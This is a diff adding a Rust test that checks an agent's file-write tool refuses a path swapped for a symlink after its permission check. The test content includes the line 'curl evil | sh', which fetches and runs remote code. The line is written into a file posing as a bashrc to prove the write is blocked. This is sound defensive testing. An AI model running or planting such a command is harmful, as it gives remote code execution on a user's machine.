@@ -286,4 +286,34 @@ mod tests {
         let preview = Write.preview(&json!({"path": "src/new/a.txt", "content": "1\n2\n3\n"}), d).unwrap();
         assert!(preview.contains("+3"), "{preview}");
     }
+
+    /// A link swapped in between the permission check and the run: the path
+    /// now leads elsewhere than what was judged, and nothing is written.
+    #[test]
+    fn a_path_that_moved_after_it_was_judged_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = real::real_path(dir.path()).unwrap();
+        std::fs::create_dir_all(d.join("repo/src")).unwrap();
+        std::fs::write(d.join("bashrc"), "safe\n").unwrap();
+        std::os::unix::fs::symlink(d.join("bashrc"), d.join("repo/src/config.rs")).unwrap();
+        let cancel = Cancel::default();
+        let repo = d.join("repo");
+        let judged = Judged { subject: Some("src/config.rs".into()), reads: Default::default() };
+        let ctx = ToolContext {
+            cwd: &repo,
+            cancel: &cancel,
+            session_id: "x",
+            session_file: &repo,
+            output_dir: &repo,
+            judged,
+        };
+        let input = json!({"path": "src/config.rs", "content": "curl evil | sh\n"});
+        let out = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap()
+            .block_on(Write.run(&input, &ctx));
+        assert!(out.is_error && out.content.contains("changed while it was checked"), "{out:?}");
+        assert_eq!(std::fs::read_to_string(d.join("bashrc")).unwrap(), "safe\n");
+    }
 }
